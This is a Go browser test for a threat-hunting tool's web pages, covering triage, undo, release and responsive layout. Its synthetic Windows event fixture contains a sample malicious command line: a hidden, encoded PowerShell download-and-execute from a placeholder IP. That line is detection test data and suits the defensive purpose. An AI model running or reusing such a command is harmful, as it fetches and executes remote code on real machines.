@@ -1,0 +1,184 @@
+package hunt
+
+import (
+	"context"
+	"fmt"
+	"net/http/httptest"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/chromedp/chromedp"
+
+	"noroshi/internal/testkit"
+)
+
+// browser opens Chromium on a desk.
+func browser(t *testing.T) context.Context {
+	t.Helper()
+	bin := ""
+	for _, name := range []string{"chromium", "chromium-browser", "google-chrome", "headless_shell"} {
+		if p, err := exec.LookPath(name); err == nil {
+			bin = p
+			break
+		}
+	}
+	if bin == "" {
+		testkit.Skip(t, "no Chromium here")
+	}
+	opts := append(chromedp.DefaultExecAllocatorOptions[:], chromedp.ExecPath(bin), chromedp.NoSandbox, chromedp.WindowSize(1440, 900))
+	ctx, cancel := chromedp.NewExecAllocator(context.Background(), opts...)
+	t.Cleanup(cancel)
+	ctx, cancel = chromedp.NewContext(ctx)
+	t.Cleanup(cancel)
+	ctx, cancel = context.WithTimeout(ctx, 240*time.Second)
+	t.Cleanup(cancel)
+	return ctx
+}
+
+// day is an intruder's day in the words of rules that the program knows: what a
+// run of "hunt scan" would send.
+func (s *site) day() (list []Incoming) {
+	shelf := mustShelf(s.t, s)
+	at := s.Clock.Now().Add(-30 * time.Hour)
+	hosts := []string{"PC-014.corp.example.jp", "JUMP-02", "AD-01", "FILE-03"}
+	users := []string{"CORP\\svc-maint", "CORP\\u1024", "", "CORP\\admin7"}
+	for i, r := range shelf.rules {
+		if !strings.HasPrefix(themeOf(r), "windows/") {
+			continue
+		}
+		for j := range 1 + i%5 {
+			list = append(list, Incoming{Time: at.Add(time.Duration(i*7+j*31) * time.Minute), Kind: "rule", Rule: LineRule{ID: r.Ref(), Title: r.Title, Level: r.Level.String()}, Source: `C:\Windows\System32\winevt\Logs\Security.evtx`,
+				Record: uint64(1000 + i*7 + j), Host: hosts[(i+j)%4], User: users[(i*3+j)%4], Attack: Techniques(r),
+				Why:   []Why{{Field: "Image", Op: "endswith", Want: `\powershell.exe`, Value: `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`}, {Field: "CommandLine", Op: "contains", Want: "-enc", Value: "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA http://203.0.113.84/a.ps1"}},
+				Event: map[string]string{"EventID": "4688", "Channel": "Security", "Computer": hosts[(i+j)%4], "SubjectUserName": "svc-maint", "NewProcessName": `C:\Windows\System32\cmd.exe`, "DestinationIp": "203.0.113.84", "Hashes": "SHA256=" + strings.Repeat("a1", 32)}})
+		}
+	}
+	return list
+}
+
+// A hunter brings in a run, looks at one host, calls what is there harmless,
+// takes it back, and gives one value to the analysts: with a browser.
+func TestAHunterWalksTheDesk(t *testing.T) {
+	s := newSite(t)
+	h, err := s.Draft(s.hunter(), NewHunt{Title: "遠隔保守まわりの不審な操作", Question: "保守用のアカウントが、夜に道具を動かしていないか", Hosts: "踏み台 JUMP-02\n認証基盤 AD-01", Logs: "Windows のイベントログ", Rules: []string{s.starterRef()}})
+	s.must(err)
+	h, err = s.Begin(s.hunter(), h.ID, h.Version)
+	s.must(err)
+	list := s.day()
+	file := filepath.Join(t.TempDir(), "result.jsonl")
+	if err := os.WriteFile(file, jsonl(t, list...), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	srv := httptest.NewServer(s)
+	t.Cleanup(srv.Close)
+	ctx := browser(t)
+	run := func(acts ...chromedp.Action[chromedp.Void]) {
+		t.Helper()
+		if err := chromedp.Do(ctx, acts...); err != nil {
+			t.Fatal(err)
+		}
+	}
+	ask := func(js string) string {
+		t.Helper()
+		v, err := chromedp.Run(ctx, chromedp.Evaluate[string](js))
+		if err != nil {
+			t.Fatal(err)
+		}
+		return v
+	}
+	desk := srv.URL + "/hunts/" + h.ID
+	run(chromedp.EmulateViewport(1440, 900), chromedp.Navigate(srv.URL+"/as?who=wind~operator.admin"), chromedp.Navigate(desk+"/bring"), chromedp.WaitVisible("h1"),
+		chromedp.SetUploadFiles("input[type=file]", []string{file}), chromedp.Click("form[enctype] button.primary"), chromedp.WaitVisible("#desk"))
+	if n := ask(`document.querySelectorAll("#desk tbody tr").length + ""`); n != fmt.Sprint(deskRows) {
+		t.Errorf("%s rows", n)
+	}
+	run(chromedp.Navigate(desk+"?host=JUMP-02"), chromedp.WaitVisible("#desk"))
+	if hosts := ask(`[...new Set([...document.querySelectorAll('#desk td[data-th="機械"]')].map(x => x.textContent.trim()))].join()`); hosts != "JUMP-02" {
+		t.Errorf("hosts: %s", hosts)
+	}
+	run(chromedp.Click(`#desk tbody tr:nth-child(1) input[type=checkbox]`), chromedp.Click(`#desk tbody tr:nth-child(2) input[type=checkbox]`), chromedp.WaitVisible(`.bulk.on`))
+	s.shot(ctx, "desk-ticked")
+	run(chromedp.Click(`.bulk button[value="harmless"]`), chromedp.WaitVisible(`#f-reason`), chromedp.SendKeys(`#f-reason`, "夜間の保守。担当に確かめた"), chromedp.Click(`form button.primary`), chromedp.WaitVisible(`.note.good button`))
+	s.shot(ctx, "desk-done")
+	if n := len(s.findings(FindingFilter{State: Harmless})); n != 2 {
+		t.Errorf("%d harmless", n)
+	}
+	run(chromedp.Click(`.note.good button`), chromedp.WaitVisible(`.note.good`), chromedp.WaitVisible("#desk"))
+	if n := len(s.findings(FindingFilter{State: Harmless})); n != 0 {
+		t.Errorf("%d harmless after undo", n)
+	}
+	run(chromedp.Click(`#desk tbody tr:nth-child(1) th a`), chromedp.WaitVisible(`a[href$="/release"]`))
+	s.shot(ctx, "finding-walk")
+	run(chromedp.Click(`a[href$="/release"]`), chromedp.WaitVisible(`input[name=values]`), chromedp.Click(`input[name=values]`), chromedp.Click(`main form button.primary`), chromedp.WaitVisible(`.note.good`))
+	s.shot(ctx, "release-preview")
+	run(chromedp.Click(`main form button.primary`), chromedp.WaitVisible(`#released`))
+	if n := testkit.Count(t, s.Parts.DB, "SELECT count(*) FROM sighting_fact"); n != 1 {
+		t.Errorf("%d sightings", n)
+	}
+	s.widths(t, ctx, srv.URL, h, list)
+}
+
+// widths wants every page to fit a telephone and a desk, in both languages.
+func (s *site) widths(t *testing.T, ctx context.Context, at string, h Hunt, list []Incoming) {
+	t.Helper()
+	r := s.hub.send(h.ID, "a-second-run", list[20:]...)
+	runs, _, err := s.Runs(s.hunter(), h.ID, "", 10)
+	s.must(err)
+	f := s.findings(FindingFilter{Run: r.ID})
+	_, err = s.Triage(s.hunter(), Choice{IDs: []string{f[0].ID, f[1].ID, f[2].ID}}, Decision{State: Real, Reason: "保守の予定がない夜"})
+	s.must(err)
+	_, err = s.Suppress(s.admin(), NewSuppression{Condition: Condition{Rule: f[5].Rule, Host: "FILE-03"}, Title: f[5].Title, Reason: "バックアップの道具。担当に確かめた", UntilAt: s.Clock.Now().AddDate(0, 2, 0)})
+	s.must(err)
+	x, err := s.Suppress(s.other(), NewSuppression{Condition: Condition{Rule: f[6].Rule, Field: "CommandLine", Value: "backup.exe /full"}, Title: f[6].Title, Reason: "製品のバックアップ", UntilAt: s.Clock.Now().AddDate(0, 2, 0)})
+	s.must(err)
+	_, err = s.Offer(s.other(), x.ID, false)
+	s.must(err)
+	b, err := s.AddRulebook(s.hunter(), "社内の規則", "経理の端末だけの規則")
+	s.must(err)
+	_, err = s.Upload(s.hunter(), b.ID, zipBook(t, map[string]string{"a.yml": goodRule, "b.yml": strings.Replace(goodRule, "condition: a", "condition: a and", 1)}), "最初の版")
+	s.must(err)
+	pages := []struct{ name, path string }{{"hunts", "/hunts"}, {"new", "/hunts/new"}, {"desk", "/hunts/" + h.ID}, {"bring", "/hunts/" + h.ID + "/bring"}, {"triage", "/hunts/" + h.ID + "/triage"}, {"finding", "/hunt-findings/" + f[0].ID},
+		{"suppress", "/hunt-findings/" + f[0].ID + "/suppress"}, {"release", "/hunt-findings/" + f[0].ID + "/release"}, {"compare", "/hunts/" + h.ID + "/compare?before=" + runs[1].ID + "&after_run=" + runs[0].ID + "&change=gone"}, {"report", "/hunts/" + h.ID + "/report"},
+		{"close", "/hunts/" + h.ID + "/close"}, {"batches", "/hunt-batches"}, {"books", "/hunt-rules"}, {"book", "/hunt-rules/" + b.ID}, {"starter", "/hunt-rules/starter?theme=windows%2Fransomware"}, {"rule", "/hunt-rules/starter/rule?id=fd5fd30d-e74b-49ab-be69-eecd1da69066"}, {"suppressions", "/hunt-suppressions"}}
+	for _, p := range pages {
+		for _, look := range []struct {
+			lang, theme string
+			width       int64
+		}{{"ja", "light", 1440}, {"ja", "light", 360}, {"en", "dark", 1440}, {"en", "dark", 360}} {
+			sep := "?"
+			if strings.Contains(p.path, "?") {
+				sep = "&"
+			}
+			err := chromedp.Do(ctx, chromedp.EmulateViewport(look.width, 900), chromedp.Navigate(at+p.path+sep+"lang="+look.lang), chromedp.WaitVisible("h1"))
+			if err != nil {
+				t.Fatal(err)
+			}
+			wide, err := chromedp.Run(ctx, chromedp.Evaluate[float64](`document.documentElement.dataset.theme = "`+look.theme+`", document.documentElement.scrollWidth`))
+			if err != nil {
+				t.Fatal(err)
+			}
+			if wide > float64(look.width) {
+				t.Errorf("%s in %s is %v wide on a screen of %d", p.name, look.lang, wide, look.width)
+			}
+			s.shot(ctx, fmt.Sprintf("%s-%s-%d", p.name, look.lang, look.width))
+		}
+	}
+}
+
+// shot keeps a picture where NOROSHI_SHOTS says, for people to look at.
+func (s *site) shot(ctx context.Context, name string) {
+	s.t.Helper()
+	dir := os.Getenv("NOROSHI_SHOTS")
+	if dir == "" {
+		return
+	}
+	png, err := chromedp.Run(ctx, chromedp.FullScreenshot(100))
+	if err == nil {
+		err = os.WriteFile(filepath.Join(dir, name+".png"), png, 0o600)
+	}
+	s.must(err)
+}
